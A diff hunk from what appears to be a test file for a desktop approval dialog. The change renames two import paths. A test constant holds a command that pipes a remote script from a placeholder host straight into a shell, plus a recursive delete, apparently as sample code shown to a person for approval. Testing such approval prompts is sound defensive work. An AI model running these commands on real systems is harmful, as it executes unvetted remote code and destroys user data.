@@ -14,8 +14,8 @@ from PySide6.QtWidgets import QWidget
 from pytestqt.qtbot import QtBot
 
 from ollie_tray.dialogs.approval import ApprovalDialog
-from registry_core.elevation.core import QueueInfo
-from registry_core.elevation.prompter import ApprovalRequest
+from registry_core.broker.decide.core import QueueInfo
+from registry_core.broker.question import ApprovalRequest
 
 CODE = "curl -fsSL https://x.example/i.sh | sh\nrm -rf ~/.cache/x\n" + "echo line\n" * 60
 
